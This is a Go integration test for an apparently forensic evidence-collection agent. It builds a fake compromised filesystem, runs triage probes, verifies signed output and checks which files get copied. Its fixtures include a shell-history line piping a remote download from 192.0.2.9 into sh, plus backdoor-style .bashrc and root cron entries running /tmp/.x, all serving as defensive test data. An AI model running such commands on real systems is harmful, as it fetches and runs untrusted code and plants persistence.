package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/klauspost/compress/zstd"
	"golang.org/x/sys/unix"

	"hozen/agent/internal/acquire"
	"hozen/agent/internal/identity"
	"hozen/agent/internal/probe"
	"hozen/agent/internal/probe/bodyfile"
	"hozen/agent/internal/probe/filecopy"
	"hozen/agent/internal/probe/pkgcheck"
	"hozen/agent/internal/probe/ransom"
	"hozen/agent/internal/spool"
	"hozen/internal/artifact"
	"hozen/internal/artifact/record"
	"hozen/internal/verify"
)

// TestFilesBecomeEvidence takes a small system's files on the way of every acquisition,
// checks it with the program for outsiders, and takes the files out again as they do.
func TestFilesBecomeEvidence(t *testing.T) {
	root, out := t.TempDir(), filepath.Join(t.TempDir(), "evidence")
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	files := map[string]string{
		"var/log/auth.log":               strings.Repeat("sshd: Failed password for root from 192.0.2.9\n", 20_000),
		"var/log/journal/m/x@1":          "LPKSHHRH\x00\xff binary",
		"home/alice/.bash_history":       "curl http://192.0.2.9/x | sh\n",
		"home/alice/diary.txt":           "private",
		"home/alice/.bashrc":             "nohup /tmp/.x &\n",
		"etc/passwd":                     "alice:x:1000:1000::/home/alice:/bin/sh\n",
		"etc/shadow":                     "alice:$y$secret\n",
		"etc/cron.d/\xff\xfeupdate":      "* * * * * root /tmp/.x\n",
		"usr/bin/tool":                   "patched",
		"srv/a/DECRYPT_ME.txt":           "pay",
		"srv/a/plan.docx.locked":         "gibberish",
		"var/lib/dpkg/info/tool.md5sums": "d41d8cd98f00b204e9800998ecf8427e  usr/bin/tool\n",
	}
	for name, text := range files {
		must(os.MkdirAll(filepath.Dir(filepath.Join(root, name)), 0o755))
		must(os.WriteFile(filepath.Join(root, name), []byte(text), 0o644))
	}
	must(unix.Mkfifo(filepath.Join(root, "etc/cron.d/pipe"), 0o644))
	must(os.Symlink("/dev/zero", filepath.Join(root, "var/log/auth.log.1")))

	signer, err := identity.NewOneTime()
	must(err)
	look, scope := ransom.NewLook(root), filecopy.Scope{}
	var probes []acquire.Planned
	for _, p := range []probe.Probe{
		bodyfile.New(bodyfile.Config{Root: root}), filecopy.New(artifact.KindHistory, root, scope), filecopy.New(artifact.KindStartFile, root, scope),
		filecopy.New(artifact.KindLogFile, root, scope), filecopy.New(artifact.KindUserFile, root, scope), pkgcheck.New(root), look.FileStat(), look.Notes(),
	} {
		probes = append(probes, planned(time.Minute, p))
	}
	r := acquire.NewRunner(acquire.Config{
		Sink: &spool.Folder{Dir: out},
		Plan: func(string) (acquire.Plan, error) {
			return acquire.Plan{Profile: "triage", Gentle: true, Probes: probes}, nil
		},
		Identity: func() (acquire.Identity, error) { return acquire.Identity{Signer: signer}, nil },
	})
	res, err := r.Run(t.Context(), acquire.Order{Trigger: artifact.TriggerManual, Profile: "triage"})
	must(err)
	for _, p := range res.Manifest.Probes {
		if p.Outcome != artifact.Complete {
			t.Errorf("%s is %s: %s", p.Kind, p.Outcome, p.Detail)
		}
	}
	report, err := verify.Folder(t.Context(), out, verify.Anchor{KeySHA256: res.Manifest.Signer.KeySHA256})
	must(err)
	if report.Verdict != verify.Verified {
		t.Fatalf("%+v", report.Problems)
	}

	got, stable := map[string]string{}, map[string]string{}
	for _, kind := range []artifact.Kind{artifact.KindHistory, artifact.KindStartFile, artifact.KindLogFile, artifact.KindUserFile, artifact.KindRansomNote} {
		names := map[int]string{}
		data := map[int][]byte{}
		for _, line := range evidenceLines(t, out, kind) {
			var l struct {
				Part, Path, Unread, SHA256, Stability string
				Path64                                []byte `json:"path_b64"`
				File                                  int
				Data                                  []byte `json:"data_b64"`
			}
			must(json.Unmarshal(line, &l))
			switch l.Part {
			case record.PartFile:
				names[l.File] = l.Path
				if l.Path64 != nil {
					names[l.File] = string(l.Path64)
				}
				if l.Unread != "" {
					got[names[l.File]] = l.Unread
				}
			case record.PartData:
				data[l.File] = append(data[l.File], l.Data...)
			case record.PartEnd:
				if sum := sha256.Sum256(data[l.File]); hex.EncodeToString(sum[:]) != l.SHA256 {
					t.Errorf("%s has another digest", names[l.File])
				}
				got[names[l.File]], stable[names[l.File]] = string(data[l.File]), l.Stability
			}
		}
	}
	for name, text := range files {
		switch name {
		case "home/alice/diary.txt", "etc/shadow", "usr/bin/tool", "srv/a/plan.docx.locked", "var/lib/dpkg/info/tool.md5sums":
			if _, ok := got["/"+name]; ok {
				t.Errorf("%q is not for copying", name)
			}
			continue
		}
		if got["/"+name] != text || stable["/"+name] != record.StableSame {
			t.Errorf("%q: %d bytes, %s", name, len(got["/"+name]), stable["/"+name])
		}
	}
	if got["/etc/cron.d/pipe"] != "not_regular" || got["/var/log/auth.log.1"] != "link" {
		t.Errorf("%q, %q", got["/etc/cron.d/pipe"], got["/var/log/auth.log.1"])
	}
	all := bytes.Join(evidenceLines(t, out, artifact.KindBodyFile), nil)
	if !bytes.Contains(all, []byte(`/cron.d/pipe"`)) || bytes.Contains(all, []byte("diary")) {
		t.Error("the list of names has too little or too much")
	}
	if all := bytes.Join(evidenceLines(t, out, artifact.KindPkgCheck), nil); !bytes.Contains(all, []byte(`"state":"changed","path":"/usr/bin/tool"`)) {
		t.Errorf("%s", all)
	}
	if all := bytes.Join(evidenceLines(t, out, artifact.KindFileStat), nil); !bytes.Contains(all, []byte(`"name":".locked"`)) {
		t.Errorf("%s", all)
	}
}

// evidenceLines reads an artifact as outsiders do.
func evidenceLines(t *testing.T, dir string, kind artifact.Kind) [][]byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, artifact.ArtifactDir, string(kind)+".jsonl.zst"))
	if err != nil {
		t.Fatal(err)
	}
	d, err := zstd.NewReader(nil)
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	if b, err = d.DecodeAll(b, nil); err != nil {
		t.Fatal(err)
	}
	return bytes.Split(bytes.TrimSuffix(b, []byte("\n")), []byte("\n"))
}
